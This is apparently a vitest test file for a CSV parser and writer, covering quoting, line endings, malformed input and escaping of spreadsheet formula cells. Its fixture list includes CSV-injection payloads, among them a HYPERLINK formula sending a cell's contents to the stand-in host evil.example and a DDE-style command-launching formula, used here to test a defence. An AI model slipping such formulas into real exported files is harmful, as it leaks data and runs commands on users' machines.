import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CsvError, parseCsv, writeCsv } from '../../import/csv.js';

/** Cells a spreadsheet program would run as formulas (OWASP: = + - @, tab, CR), and near misses. */
const FORMULA_CELLS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '=1+1\nsecond line',
  '+1 555 0100',
  '-5% off today',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\tindented',
  '\rcarriage',
  "'=already quoted by hand",
  "''+two apostrophes",
  "'just an apostrophe",
  "'",
  'plain = not at the start',
  '',
];

describe('parseCsv', () => {
  it('reads quoted cells with commas, escaped quotes and line breaks', () => {
    const text = 'text,accounts\n"Hello, world","a;b"\n"She said ""hi""\nsecond line",c\n';
    expect(parseCsv(text)).toEqual([
      ['text', 'accounts'],
      ['Hello, world', 'a;b'],
      ['She said "hi"\nsecond line', 'c'],
    ]);
  });

  it('takes CRLF or lone CR line ends, drops a BOM, skips blank lines, keeps empty cells', () => {
    const records = [
      ['a', 'b'],
      ['1', ''],
      ['', '2'],
      ['3', '4'],
    ];
    expect(parseCsv('\uFEFFa,b\r\n1,\r\n\r\n,2\r\n3,4')).toEqual(records);
    expect(parseCsv('a,b\r1,\r\r,2\r3,4')).toEqual(records);
  });

  it('keeps CRLF inside a quoted cell as written', () => {
    expect(parseCsv('a\r\n"x\r\ny"\r\n')).toEqual([['a'], ['x\r\ny']]);
  });

  it('keeps a stray quote inside an unquoted cell as text', () => {
    expect(parseCsv('a,b\n5" screen,ok')).toEqual([
      ['a', 'b'],
      ['5" screen', 'ok'],
    ]);
  });

  it('refuses a quoted cell that never closes, naming its line', () => {
    expect(() => parseCsv('a\nok\n"never closed\nmore')).toThrow(CsvError);
    expect(() => parseCsv('a\nok\n"never closed\nmore')).toThrow(/line 3/);
  });

  it('reads a trailing cell without a final line break, and an empty file as no records', () => {
    expect(parseCsv('a,b\n1,2')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
    expect(parseCsv('')).toEqual([]);
  });
});

describe('writeCsv and formulas', () => {
  it('starts no cell with a formula character, and reads every cell back exactly', () => {
    const rows = FORMULA_CELLS.map((text) => ({ text, other: text }));
    const csv = writeCsv(['text', 'other'], rows);
    // As a spreadsheet program sees the file: no unescaping.
    const raw = Papa.parse<string[]>(csv, { skipEmptyLines: false }).data.flat();
    for (const cell of raw) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    expect(parseCsv(csv).slice(1)).toEqual(FORMULA_CELLS.map((t) => [t, t]));
  });
});
